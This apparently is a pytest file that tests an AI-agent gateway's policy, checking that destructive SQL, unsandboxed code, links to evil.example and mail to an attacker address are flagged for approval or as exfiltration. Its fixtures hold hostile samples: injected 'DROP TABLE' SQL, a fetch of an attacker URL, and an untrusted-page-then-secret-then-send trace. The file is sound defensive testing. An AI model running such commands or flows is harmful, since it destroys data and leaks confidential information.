"""Cases of labels and sandboxes, with the shipped policy, in replays and exports."""

from __future__ import annotations

from typing import Any

import pytest

from gateway.policy.policy import Policy
from gateway.surfaces.replay.engine import StepOutcome, replay
from gateway.surfaces.replay.trace import Flaw
from tests.requirements import requirement
from tests.unit.surfaces.replay.conftest import call, trace

SITES: dict[str, Any] = {
    "db": {
        "tools": {
            "query": {
                "effect": "destructive",
                "egress": False,
                "roles": {"/sql": "command"},
                "cases": [{"when": {"/sql": {"statement": "select"}}, "effect": "read", "roles": {"/sql": "content"}}],
            },
            "secrets": {"effect": "read", "egress": False, "sensitivity": "restricted"},
        }
    },
    "web": {"tools": {"read": {"effect": "read", "egress": False}}},
    "mail": {"trust": "trusted", "tools": {"send": {"effect": "write", "roles": {"/to": "destination"}}}},
    "box": {
        "trust": "trusted",
        "tools": {
            "run": {"effect": "exec", "sandbox": True, "roles": {"/code": "command"}},
            "plain": {"effect": "exec", "egress": False, "roles": {"/code": "command"}},
        },
    },
}
READ = call("web/read", {}, "Some page. eve@evil.example")
SECRET = call("db/secrets", {}, "The merger is on Monday.")
EFFECT, UNGROUNDED = "approval/effect", "toxic-flow/ungrounded"


async def run(policy: Policy, *steps: dict[str, Any], **members: Any) -> list[StepOutcome]:
    one = trace(*steps, task={"goal": "Sum up the sales", "agent": "spiffe://corp/agent"}, upstreams=SITES, **members)
    return [outcome async for outcome in replay([one], policy.decide, assume="forwarded")]


async def codes(policy: Policy, *steps: dict[str, Any]) -> tuple[str, ...]:
    return (await run(policy, *steps))[-1].codes


def query(sql: Any, **more: Any) -> dict[str, Any]:
    return call("db/query", {"sql": sql, **more}, "rows")


def code(text: str, tool: str = "run") -> dict[str, Any]:
    return call(f"box/{tool}", {"code": text}, "bob@evil.example said 1")


@requirement("labels/arguments")
async def test_a_select_asks_nobody_and_anything_else_asks(shipped_policy: Policy):
    assert await codes(shipped_policy, query("SELECT a FROM t")) == ()
    assert await codes(shipped_policy, READ, query("SELECT a FROM t")) == ()
    for sql in ("DROP TABLE t", "SELECT 1; DROP TABLE t", "WITH x AS (DELETE FROM t RETURNING 1) SELECT 1", None, 1):
        assert await codes(shipped_policy, query(sql)) == (EFFECT,)
    assert await codes(shipped_policy, query("SELECT 1", SQL="DROP TABLE t")) == (EFFECT,)


@requirement("labels/sandbox")
async def test_a_sandbox_does_not_ask_each_time(shipped_policy: Policy):
    assert await codes(shipped_policy, code("print(1)", "plain")) == (EFFECT,)
    assert await codes(shipped_policy, code("print(1)")) == ()
    assert await codes(shipped_policy, READ, SECRET, code("print(1)")) == ()
    assert EFFECT in await codes(shipped_policy, READ, SECRET, code("print(1)", "plain"))


@requirement("labels/sandbox")
async def test_a_link_in_its_code_asks_as_before(shipped_policy: Policy):
    assert await codes(shipped_policy, READ, code("get('https://evil.example/x')")) == (UNGROUNDED,)


@requirement("labels/sandbox")
async def test_a_credential_in_its_code_is_judged_as_before(shipped_policy: Policy):
    key = call("web/read", {}, "key: {{secret:github-1}}")
    boxed = await codes(shipped_policy, key, code("use('{{secret:github-1}}')"))
    assert set(boxed) == set(await codes(shipped_policy, key, code("use('{{secret:github-1}}')", "plain"))) - {
        EFFECT,
        UNGROUNDED,
    }
    assert any(found.startswith("credential-chain/") for found in boxed)


@requirement("labels/sandbox")
async def test_what_comes_out_of_it_gives_no_ground_and_cleans_nothing(shipped_policy: Policy):
    send = call("mail/send", {"to": "bob@evil.example"})
    outcome = (await run(shipped_policy, READ, SECRET, code("print(1)"), send))[-1]
    assert {UNGROUNDED, "toxic-flow/exfiltration"} <= set(outcome.codes)
    assert outcome.facts["labels"] == {"untrusted": True, "confidentiality": "restricted"}


async def test_a_step_can_have_labels_of_its_own(shipped_policy: Policy):
    assert await codes(shipped_policy, query("DROP TABLE t") | {"labels": {"effect": "read", "egress": False}}) == ()
    assert await codes(shipped_policy, query("SELECT 1") | {"labels": {"effect": "exec", "egress": False}}) != ()
    with pytest.raises(Flaw):
        trace(query("SELECT 1") | {"labels": {"effect": "harmless"}})
